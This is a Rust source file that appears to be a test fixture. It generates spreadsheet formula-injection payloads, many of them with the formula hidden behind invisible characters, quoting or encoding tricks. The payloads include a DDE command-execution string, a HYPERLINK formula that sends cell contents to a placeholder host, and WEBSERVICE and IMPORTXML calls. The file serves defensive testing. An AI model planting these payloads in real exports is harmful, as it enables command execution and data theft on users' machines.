//! Texts that attack whoever opens a spreadsheet, for the tests and for the judges.

/// What formulas do harm with, behind every sign that begins one, and hidden in every way that a program may see through.
pub fn payloads() -> Vec<String> {
    let formulas =
        ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"https://example.org/?x=\"&A1;\"Trykk her\")", "SUM(1;2)"];
    let signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
    let hidden = [
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{A0}=1+1",
        "\u{FEFF}=1+1",
        "\u{200B}=1+1",
        "\u{202E}=1+1",
        "\u{0}=1+1",
        "\u{3000}=1+1",
        "a\n=1+1",
        "a\r\n=1+1",
        "a;=1+1",
        "a,=1+1",
        "a\t=1+1",
        "a|=1+1",
        "\"=1+1",
        "\";=1+1",
        "\",=1+1",
        "a\";=1+1;\"",
        "\"\n=1+1",
        "'\n=1+1",
        "';=1+1",
        "=1+1'",
        "==1+1",
        "=-1+1",
        "+=1",
        "-2+3+cmd|' /C calc'!A0",
        "=WEBSERVICE(\"https://example.org\")",
        "=DDE(\"soffice\";\"a\";\"b\")",
        "=IMPORTXML(\"https://example.org\";\"/a\")",
        "=1+1\u{0}",
        "_x003D_1+1",
        "&#61;1+1",
        "{=1+1}",
        "\u{2212}1+1",
        "\u{FE66}1+1",
        "=\n1+1",
        "</t></is></c><f>1+1</f>",
    ];
    let plain = signs.iter().flat_map(|sign| formulas.iter().map(move |formula| format!("{sign}{formula}")));
    plain.chain(hidden.map(str::to_owned)).collect()
}
